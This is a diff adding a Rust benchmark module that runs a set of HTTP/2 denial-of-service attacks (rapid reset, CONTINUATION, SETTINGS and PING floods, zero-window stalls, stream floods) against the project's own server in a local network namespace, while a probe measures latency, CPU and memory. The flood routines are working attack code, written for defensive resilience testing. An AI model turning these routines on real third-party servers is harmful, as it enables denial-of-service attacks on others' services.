@@ -1,0 +1,520 @@
+//! h2-attacks: the HTTP/2 attacks of docs/security.md, run against a release node from
+//! another network namespace (another host, as far as the node's network stack can tell),
+//! while a probe there sends a fixed 200 requests a second and times each from when it
+//! was due. The node has core 0; the attacker and the probe share core 1, so a control
+//! run in which the attacker only spins shows what sharing that core costs the probe.
+//!
+//! `outpost-bench h2-attack KIND ADDR SECONDS` and `outpost-bench h2-probe ADDR SECONDS`
+//! are the two sides, started by the harness inside the namespace.
+
+use std::io::{ErrorKind, Read, Write};
+use std::net::{SocketAddr, TcpStream};
+use std::time::{Duration, Instant};
+
+use anyhow::{Context, bail};
+use serde::{Deserialize, Serialize};
+
+use crate::h2frames::*;
+
+/// The attacks, in the order they run; `none` and `spin` are the controls.
+pub const KINDS: &[&str] = &[
+    "none",
+    "spin",
+    "rapid-reset",
+    "continuation",
+    "settings",
+    "ping",
+    "zero-window",
+    "streams",
+];
+/// Connections an attacker floods at once (zero-window ramps up to `HELD`).
+const FAN: usize = 4;
+/// Connections the zero-window attacker holds, 100 stalled streams each.
+const HELD: usize = 200;
+/// Requests a second the probe sends.
+pub const PROBE_RATE: u64 = 200;
+
+/// What one attacker did.
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct AttackerReport {
+    pub connections: u64,
+    /// Connections the node closed (GOAWAY, reset, or EOF).
+    pub closed_by_node: u64,
+    pub connect_failures: u64,
+    pub bytes: u64,
+}
+
+/// What the probe saw.
+#[derive(Debug, Default, Serialize, Deserialize)]
+pub struct ProbeReport {
+    pub sent: u64,
+    pub ok: u64,
+    pub failed: u64,
+    pub p50_ms: f64,
+    pub p99_ms: f64,
+    pub max_ms: f64,
+    /// The first few failures, for the report.
+    pub failures: Vec<String>,
+}
+
+struct Conn {
+    stream: TcpStream,
+    pending: Vec<u8>,
+    next_stream: u32,
+    opened: Instant,
+    /// The attack's script for this connection is done; it is only held now.
+    holding: bool,
+}
+
+/// Runs attack `kind` against `addr` for `seconds` and prints its report as `JSON …`.
+pub fn attack(kind: &str, addr: SocketAddr, seconds: u64) -> anyhow::Result<()> {
+    let deadline = Instant::now() + Duration::from_secs(seconds);
+    let mut report = AttackerReport::default();
+    match kind {
+        "none" => std::thread::sleep(Duration::from_secs(seconds)),
+        "spin" => {
+            let mut x = 0u64;
+            while Instant::now() < deadline {
+                x = std::hint::black_box(x.wrapping_mul(31).wrapping_add(7));
+            }
+        }
+        _ if KINDS.contains(&kind) => flood(kind, addr, deadline, &mut report),
+        _ => bail!("unknown attack {kind}; one of {KINDS:?}"),
+    }
+    println!("JSON {}", serde_json::to_string(&report)?);
+    Ok(())
+}
+
+/// The frames `kind` sends next on `conn`; `None` once it only holds the connection.
+fn next_bytes(kind: &str, conn: &mut Conn, junk: &[u8]) -> Option<Vec<u8>> {
+    let first = conn.next_stream == 0;
+    let mut out = if first {
+        let settings: &[u8] = if kind == "zero-window" {
+            &ZERO_WINDOW
+        } else {
+            &[]
+        };
+        [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()
+    } else {
+        Vec::new()
+    };
+    match kind {
+        "rapid-reset" => {
+            for _ in 0..100 {
+                let id = conn.next_stream * 2 + 1;
+                conn.next_stream += 1;
+                out.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &get("x", "/")));
+                out.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
+            }
+        }
+        "continuation" if first => {
+            conn.next_stream = 1;
+            out.extend(frame(HEADERS, END_STREAM, 1, &get("x", "/")[..2]));
+        }
+        "continuation" => out.extend(frame(CONTINUATION, 0, 1, junk)),
+        "settings" | "ping" => {
+            conn.next_stream = 1;
+            for _ in 0..100 {
+                out.extend(match kind {
+                    "settings" => frame(SETTINGS, 0, 0, &[]),
+                    _ => frame(PING, 0, 0, &[0; 8]),
+                });
+            }
+        }
+        "zero-window" | "streams" if first => {
+            let count = if kind == "streams" { 300 } else { 100 };
+            conn.next_stream = count;
+            out.extend(requests(count, "x", "/"));
+        }
+        _ => return None,
+    }
+    Some(out)
+}
+
+fn flood(kind: &str, addr: SocketAddr, deadline: Instant, report: &mut AttackerReport) {
+    let junk = continuation_junk();
+    // The settings and ping floods never read the acknowledgements: that is the attack.
+    let reads = !matches!(kind, "settings" | "ping");
+    let target = if kind == "zero-window" { HELD } else { FAN };
+    let mut conns: Vec<Conn> = Vec::new();
+    let mut scratch = vec![0u8; 64 * 1024];
+    while Instant::now() < deadline {
+        let mut progressed = false;
+        if conns.len() < target {
+            match TcpStream::connect_timeout(&addr, Duration::from_secs(1)) {
+                Ok(stream) if stream.set_nonblocking(true).is_ok() => {
+                    report.connections += 1;
+                    conns.push(Conn {
+                        stream,
+                        pending: Vec::new(),
+                        next_stream: 0,
+                        opened: Instant::now(),
+                        holding: false,
+                    });
+                    progressed = true;
+                }
+                _ => report.connect_failures += 1,
+            }
+        }
+        conns.retain_mut(|conn| {
+            if conn.pending.is_empty() && !conn.holding {
+                match next_bytes(kind, conn, &junk) {
+                    Some(bytes) => conn.pending = bytes,
+                    None => conn.holding = true,
+                }
+            }
+            let mut open = true;
+            if !conn.pending.is_empty() {
+                match conn.stream.write(&conn.pending) {
+                    Ok(n) => {
+                        report.bytes += n as u64;
+                        conn.pending.drain(..n);
+                        progressed |= n > 0;
+                    }
+                    Err(e) if e.kind() == ErrorKind::WouldBlock => {}
+                    Err(_) => open = false,
+                }
+            }
+            if reads && open {
+                match conn.stream.read(&mut scratch) {
+                    Ok(0) => open = false,
+                    Ok(_) => progressed = true,
+                    Err(e) if e.kind() == ErrorKind::WouldBlock => {}
+                    Err(_) => open = false,
+                }
+            }
+            if !open {
+                report.closed_by_node += 1;
+            }
+            // The streams attack starts over on a new connection once its burst is read.
+            let recycled = kind == "streams"
+                && conn.holding
+                && conn.opened.elapsed() > Duration::from_millis(200);
+            open && !recycled
+        });
+        if !progressed {
+            // Every socket is full or held: the attacker's own pacing, nothing waited on.
+            std::thread::sleep(Duration::from_millis(1));
+        }
+    }
+}
+
+/// Sends `PROBE_RATE` GETs a second over one HTTP/2 connection for `seconds`, times
+/// each from when it was due, and prints the report as `JSON …`.
+pub fn probe(addr: SocketAddr, seconds: u64) -> anyhow::Result<()> {
+    use bytes::Bytes;
+    use http_body_util::{BodyExt, Empty};
+    use hyper_util::client::legacy::Client;
+    use hyper_util::rt::TokioExecutor;
+
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()?;
+    let latencies = runtime.block_on(async move {
+        let client: Client<_, Empty<Bytes>> = Client::builder(TokioExecutor::new())
+            .http2_only(true)
+            .build_http();
+        let mut tick = tokio::time::interval(Duration::from_micros(1_000_000 / PROBE_RATE));
+        tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Burst);
+        let end = tokio::time::Instant::now() + Duration::from_secs(seconds);
+        let mut tasks = Vec::new();
+        while tokio::time::Instant::now() < end {
+            let due = tick.tick().await;
+            let client = client.clone();
+            tasks.push(tokio::spawn(async move {
+                let request = hyper::Request::get(format!("http://{addr}/"))
+                    .body(Empty::new())
+                    .ok()?;
+                let answer = tokio::time::timeout(Duration::from_secs(5), async {
+                    let response = client
+                        .request(request)
+                        .await
+                        .map_err(|e| format!("{e:?}"))?;
+                    let status = response.status();
+                    let body = response
+                        .into_body()
+                        .collect()
+                        .await
+                        .map_err(|e| e.to_string())?;
+                    if status != 200 {
+                        return Err(format!(
+                            "{status} {:?}",
+                            String::from_utf8_lossy(&body.to_bytes())
+                        ));
+                    }
+                    Ok(())
+                })
+                .await
+                .unwrap_or_else(|_| Err("no answer within 5 s".into()));
+                Some(answer.map(|()| due.elapsed().as_secs_f64() * 1e3))
+            }));
+        }
+        let mut latencies = Vec::new();
+        for task in tasks {
+            latencies.push(task.await.ok().flatten());
+        }
+        latencies
+    });
+    let mut ok: Vec<f64> = Vec::new();
+    let mut failures = Vec::new();
+    for answer in latencies.iter().flatten() {
+        match answer {
+            Ok(ms) => ok.push(*ms),
+            Err(e) if failures.len() < 5 => failures.push(e.clone()),
+            Err(_) => {}
+        }
+    }
+    ok.sort_by(f64::total_cmp);
+    let at = |q: f64| {
+        ok.get(((ok.len().max(1) - 1) as f64 * q).round() as usize)
+            .copied()
+            .unwrap_or(0.0)
+    };
+    let report = ProbeReport {
+        sent: latencies.len() as u64,
+        ok: ok.len() as u64,
+        failed: (latencies.len() - ok.len()) as u64,
+        p50_ms: at(0.5),
+        p99_ms: at(0.99),
+        max_ms: ok.last().copied().unwrap_or(0.0),
+        failures,
+    };
+    println!("JSON {}", serde_json::to_string(&report)?);
+    Ok(())
+}
+
+/// The `JSON …` line a side printed.
+pub fn parse_report<T: for<'a> Deserialize<'a>>(stdout: &[u8]) -> anyhow::Result<T> {
+    let text = String::from_utf8_lossy(stdout);
+    let json = text
+        .lines()
+        .find_map(|l| l.strip_prefix("JSON "))
+        .with_context(|| format!("no report in {text:?}"))?;
+    Ok(serde_json::from_str(json)?)
+}
+
+const NAMESPACE: &str = "outpost-remote";
+const NODE_IP: &str = "10.203.0.1";
+const REMOTE_IP: &str = "10.203.0.2";
+/// How long each attack (and the probe beside it) runs.
+const ATTACK_SECONDS: u64 = 15;
+
+/// One attack as the node and the probe lived through it.
+#[derive(Debug, Serialize)]
+pub struct AttackRow {
+    pub attack: String,
+    pub probe: ProbeReport,
+    pub attacker: AttackerReport,
+    /// Of the node's core, the share the node used while the attack ran.
+    pub node_cpu_percent: f64,
+    pub rss_before_mib: f64,
+    pub rss_peak_mib: f64,
+    pub rss_after_mib: f64,
+    /// The node still answered 200 after the attack stopped.
+    pub served_after: bool,
+}
+
+/// Another host for the attacker and the probe: a network namespace joined to the
+/// node's by a veth pair. Removed on drop.
+struct Remote;
+
+impl Remote {
+    fn create() -> anyhow::Result<Remote> {
+        let _ = run("ip", &["netns", "del", NAMESPACE]);
+        let node_cidr = format!("{NODE_IP}/24");
+        let remote_cidr = format!("{REMOTE_IP}/24");
+        let steps: [&[&str]; 7] = [
+            &["netns", "add", NAMESPACE],
+            &[
+                "link",
+                "add",
+                "op-node",
+                "type",
+                "veth",
+                "peer",
+                "name",
+                "op-remote",
+            ],
+            &["link", "set", "op-remote", "netns", NAMESPACE],
+            &["addr", "add", &node_cidr, "dev", "op-node"],
+            &["link", "set", "op-node", "up"],
+            &[
+                "-n",
+                NAMESPACE,
+                "addr",
+                "add",
+                &remote_cidr,
+                "dev",
+                "op-remote",
+            ],
+            &["-n", NAMESPACE, "link", "set", "op-remote", "up"],
+        ];
+        let remote = Remote;
+        for step in steps {
+            run("ip", step)?;
+        }
+        run("ip", &["-n", NAMESPACE, "link", "set", "lo", "up"])?;
+        Ok(remote)
+    }
+}
+
+impl Drop for Remote {
+    fn drop(&mut self) {
+        // Deleting the namespace deletes its end of the veth pair, and so the pair.
+        let _ = run("ip", &["netns", "del", NAMESPACE]);
+    }
+}
+
+fn run(program: &str, args: &[&str]) -> anyhow::Result<()> {
+    let output = std::process::Command::new(program).args(args).output()?;
+    if !output.status.success() {
+        bail!(
+            "{program} {}: {}",
+            args.join(" "),
+            String::from_utf8_lossy(&output.stderr).trim()
+        );
+    }
+    Ok(())
+}
+
+/// CPU seconds `pid` has used (user + system).
+fn cpu_seconds(pid: u32) -> f64 {
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
+    // Fields after the command name (which may hold spaces): state is the first.
+    let after = stat.rsplit_once(')').map_or("", |(_, rest)| rest);
+    let fields: Vec<&str> = after.split_whitespace().collect();
+    let ticks = |i: usize| {
+        fields
+            .get(i)
+            .and_then(|f| f.parse::<f64>().ok())
+            .unwrap_or(0.0)
+    };
+    (ticks(11) + ticks(12)) / 100.0
+}
+
+impl crate::Harness {
+    /// Runs `attacks` (all of [`KINDS`] when empty).
+    pub(crate) fn h2_attacks(&mut self, attacks: &[String]) -> anyhow::Result<()> {
+        let remote = Remote::create();
+        let ip = match &remote {
+            Ok(_) => NODE_IP,
+            Err(e) => {
+                self.notes.push(format!(
+                    "h2-attacks ran over loopback, not from another network namespace ({e}): run the bench as root for the namespace."
+                ));
+                "127.0.0.1"
+            }
+        };
+        let port = std::net::TcpListener::bind((ip, 0))?.local_addr()?.port();
+        let addr: SocketAddr = format!("{ip}:{port}").parse()?;
+        let dir = self.work.join("h2-attacks");
+        std::fs::create_dir_all(&dir)?;
+        let config = dir.join("node.toml");
+        std::fs::write(
+            &config,
+            format!(
+                "[node]\ndata_dir = {:?}\n\n[server]\nlisten = \"{addr}\"\n\n\
+                 [[tenant]]\nname = \"hello\"\ncomponent = {:?}\nroutes = [\"/\"]\n",
+                dir.join("data").display().to_string(),
+                self.wasm("hello").display().to_string()
+            ),
+        )?;
+        let (server, _) = self.start_outpost("outpost-h2-attacks", &config, addr, "x")?;
+        println!(
+            "h2-attacks: node on {addr} (core 0), attacker and a {PROBE_RATE} req/s probe {} (core 1), {ATTACK_SECONDS} s each",
+            if remote.is_ok() {
+                "in another network namespace"
+            } else {
+                "on loopback"
+            }
+        );
+        let me = std::env::current_exe()?;
+        let side = |args: &[String]| {
+            let mut command = if remote.is_ok() {
+                let mut c = std::process::Command::new("ip");
+                c.args([
+                    "netns",
+                    "exec",
+                    NAMESPACE,
+                    "taskset",
+                    "-c",
+                    crate::servers::LOAD_CORE,
+                ]);
+                c
+            } else {
+                let mut c = std::process::Command::new("taskset");
+                c.args(["-c", crate::servers::LOAD_CORE]);
+                c
+            };
+            command
+                .arg(&me)
+                .args(args)
+                .stdout(std::process::Stdio::piped())
+                .stderr(std::process::Stdio::inherit());
+            command
+        };
+        let seconds = ATTACK_SECONDS.to_string();
+        for kind in KINDS
+            .iter()
+            .filter(|k| attacks.is_empty() || attacks.iter().any(|a| a == *k))
+        {
+            let rss_before = server.rss_mib();
+            let cpu_before = cpu_seconds(server.pid());
+            let started = Instant::now();
+            let attacker = side(&[
+                "h2-attack".into(),
+                kind.to_string(),
+                addr.to_string(),
+                seconds.clone(),
+            ])
+            .spawn()?;
+            let probe = side(&["h2-probe".into(), addr.to_string(), seconds.clone()]).spawn()?;
+            let mut rss_peak = rss_before;
+            let attacker = loop {
+                rss_peak = rss_peak.max(server.rss_mib());
+                if started.elapsed() >= Duration::from_secs(ATTACK_SECONDS) {
+                    break attacker.wait_with_output()?;
+                }
+                // Sampling the node's memory while the attack runs.
+                std::thread::sleep(Duration::from_millis(100));
+            };
+            let node_cpu =
+                (cpu_seconds(server.pid()) - cpu_before) / started.elapsed().as_secs_f64();
+            let probe = probe.wait_with_output()?;
+            let row = AttackRow {
+                attack: kind.to_string(),
+                probe: parse_report(&probe.stdout)?,
+                attacker: parse_report(&attacker.stdout)?,
+                node_cpu_percent: node_cpu * 100.0,
+                rss_before_mib: rss_before,
+                rss_peak_mib: rss_peak,
+                rss_after_mib: server.rss_mib(),
+                served_after: crate::servers::first_response_is_200(addr, "x"),
+            };
+            println!(
+                "  {:<13} probe {:>5}/{:<5} ok  p50 {:>7.2} ms  p99 {:>7.2} ms  max {:>7.1} ms | attacker {:>6} conns, {:>5} closed by node, {:>7.1} MB | node core {:>3.0}%  RSS {:.1} → {:.1} (peak) → {:.1} MiB | served after: {}",
+                row.attack,
+                row.probe.ok,
+                row.probe.sent,
+                row.probe.p50_ms,
+                row.probe.p99_ms,
+                row.probe.max_ms,
+                row.attacker.connections,
+                row.attacker.closed_by_node,
+                row.attacker.bytes as f64 / 1e6,
+                row.node_cpu_percent,
+                row.rss_before_mib,
+                row.rss_peak_mib,
+                row.rss_after_mib,
+                row.served_after
+            );
+            for failure in &row.probe.failures {
+                println!("    probe failure: {failure}");
+            }
+            self.h2_attacks.push(row);
+        }
+        drop(server);
+        drop(remote);
+        Ok(())
+    }
+}
